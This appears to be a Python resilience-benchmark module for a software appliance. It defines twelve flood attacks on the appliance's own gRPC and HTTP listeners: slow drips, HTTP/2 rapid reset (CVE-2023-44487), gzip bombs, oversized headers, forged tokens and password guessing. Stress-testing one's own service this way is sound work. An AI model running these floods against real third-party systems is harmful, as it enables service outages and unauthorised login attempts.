"""The twelve floods: what a stranger does, how often a second, and to which listeners."""

from __future__ import annotations

import functools
import gzip
import json
from dataclasses import dataclass

from appliance.api.auth.v1 import auth_service_pb2
from bench.flood import frames
from bench.flood.flooder import Act, Attacker, Peer

GRPC = ("control", "gateway")
EVERY = ("control", "gateway", "openai")
HEALTH_WATCH = "/grpc.health.v1.Health/Watch"
LOGIN = "/appliance.api.auth.v1.AuthService/Login"
STREAMS = 900
"""Calls that a flood holds on one connection."""
CHAT = json.dumps({"model": "p/e", "messages": [{"role": "user", "content": "Hello"}]}).encode()


@dataclass(frozen=True)
class Flood:
    """One flood.

    Attributes:
        rate: acts a second, `most` of them in one burst.
        seconds: length of a burst.
        listeners: names of the targets it goes to.
    """

    name: str
    act: Act
    rate: float
    most: int
    seconds: float
    listeners: tuple[str, ...]


async def hold_call(attacker: Attacker) -> None:
    """Begin a call and send no request."""
    peer = await attacker.peer(STREAMS)
    peer.send(frames.call(peer.stream(), attacker.target.method))


async def watch_health(attacker: Attacker) -> None:
    """Watch health, for ever."""
    peer = await attacker.peer(STREAMS)
    stream = peer.stream()
    peer.send(frames.call(stream, HEALTH_WATCH) + frames.message(stream, b""))


async def say_nothing(attacker: Attacker) -> None:
    """Complete a handshake and say nothing."""
    await attacker.connect()


async def half_hello(attacker: Attacker) -> None:
    """Begin a handshake and stop in the middle of its first message."""
    peer = await attacker.connect(tls=False)
    peer.send(attacker.half_hello())


async def drip(attacker: Attacker) -> None:
    """Send a head or a body a byte each second."""
    peer = await attacker.connect()
    if not attacker.target.is_http:
        stream = peer.stream()
        head = bytes((0,)) + (1_000_000).to_bytes(4, "big")
        peer.send(frames.call(stream, attacker.target.method))
        peer.send(frames.frame(frames.DATA, 0, stream, head))
        peer.drip = functools.partial(frames.frame, frames.DATA, 0, stream, b"x")
    elif attacker.number % 2:
        peer.send(b"GET /v1/models HTTP/1.1\r\nhost: x\r\nx-slow: ")
        peer.drip = lambda: b"x"
    else:
        peer.send(_post(attacker, b"", length=1_000_000))
        peer.drip = lambda: b"x"


async def malformed(attacker: Attacker) -> None:
    """Send what is no message."""
    if attacker.target.is_http:
        peer = await attacker.connect()
        peer.send(b"\x00\xffGET nothing\r\n\r\n")
        return
    peer = await attacker.peer()
    stream = peer.stream()
    peer.send(frames.call(stream, attacker.target.method) + frames.message(stream, b"\xff" * 16))


async def bad_token(attacker: Attacker) -> None:
    """Show a token that nobody issued."""
    if attacker.target.is_http:
        peer = await attacker.peer()
        read = f"GET /v1/models HTTP/1.1\r\nhost: x\r\n{_bearer(attacker)}\r\n".encode()
        peer.send(_post(attacker, CHAT) if attacker.number % 2 else read)
        return
    peer = await attacker.peer()
    stream = peer.stream()
    shown = ("authorization", f"Bearer {attacker.token()}")
    peer.send(frames.call(stream, attacker.target.watched, shown) + frames.message(stream, b""))


async def log_in(attacker: Attacker) -> None:
    """Guess a password, of many names."""
    request = auth_service_pb2.LoginRequest(
        user="alice" if attacker.number % 4 == 0 else f"user-{attacker.number}", password="guess"
    )
    peer = await attacker.peer()
    stream = peer.stream()
    peer.send(frames.call(stream, LOGIN) + frames.message(stream, request.SerializeToString()))


async def ping(attacker: Attacker) -> None:
    """Send pings, two hundred at once."""
    peer = await attacker.peer()
    peer.send(frames.frame(frames.PING, 0, 0, b"12345678") * 200)


async def reset(attacker: Attacker) -> None:
    """Begin calls and leave them at once (CVE-2023-44487)."""
    if attacker.target.is_http:
        peer = await attacker.connect()
        peer.send(_post(attacker, CHAT))
        peer.transport.abort()
        return
    peer = await attacker.peer()
    for _ in range(20):
        stream = peer.stream()
        peer.send(
            frames.call(stream, attacker.target.method)
            + frames.message(stream, b"")
            + frames.reset(stream)
        )


async def giant_metadata(attacker: Attacker) -> None:
    """Send a head of 200 kB; each other one is no text, which gRPC itself would write down."""
    if attacker.target.is_http:
        peer = await attacker.connect()
        lines = b"".join(b"x-%d: %s\r\n" % (number, b"y" * 1000) for number in range(200))
        peer.send(b"GET /v1/models HTTP/1.1\r\nhost: x\r\n" + lines + b"\r\n")
        return
    peer = await attacker.peer()
    stream = peer.stream()
    value = "\u00fc" * 500 if attacker.number % 2 else "y" * 1000
    fields = [(f"x-{number}", value) for number in range(200)]
    peer.send(frames.call(stream, attacker.target.method, *fields) + frames.message(stream, b""))


async def bomb(attacker: Attacker) -> None:
    """Send 16 MiB of zeros in 16 kB."""
    peer: Peer = await attacker.peer()
    if attacker.target.is_http:
        peer.send(_post(attacker, _bomb(), "content-encoding: gzip\r\n"))
        return
    stream = peer.stream()
    peer.send(
        frames.call(stream, attacker.target.method, ("grpc-encoding", "gzip"))
        + frames.message(stream, _bomb(), compressed=True)
    )


@functools.cache
def _bomb() -> bytes:
    return gzip.compress(bytes(16 << 20))


def _bearer(attacker: Attacker) -> str:
    return f"authorization: Bearer {attacker.token()}\r\n"


def _post(attacker: Attacker, body: bytes, more: str = "", length: int | None = None) -> bytes:
    size = len(body) if length is None else length
    head = (
        f"POST /v1/chat/completions HTTP/1.1\r\nhost: x\r\n{_bearer(attacker)}{more}"
        f"content-type: application/json\r\ncontent-length: {size}\r\n\r\n"
    )
    return head.encode() + body


FLOODS = (
    Flood("held_calls", hold_call, 600, 3000, 5.0, GRPC),
    Flood("health_watches", watch_health, 600, 3000, 5.0, GRPC),
    Flood("silent_connections", say_nothing, 400, 2300, 6.0, EVERY),
    Flood("half_hellos", half_hello, 600, 3000, 5.0, EVERY),
    Flood("slow_bodies", drip, 200, 1000, 5.0, EVERY),
    Flood("malformed_messages", malformed, 200, 2000, 2.5, EVERY),
    Flood("bad_tokens", bad_token, 200, 2000, 2.5, EVERY),
    Flood("log_ins", log_in, 50, 500, 2.5, ("control",)),
    Flood("pings", ping, 100, 2000, 2.5, GRPC),
    Flood("resets", reset, 60, 600, 2.5, EVERY),
    Flood("giant_metadata", giant_metadata, 60, 600, 2.5, EVERY),
    Flood("compressed_bombs", bomb, 30, 300, 2.5, EVERY),
)
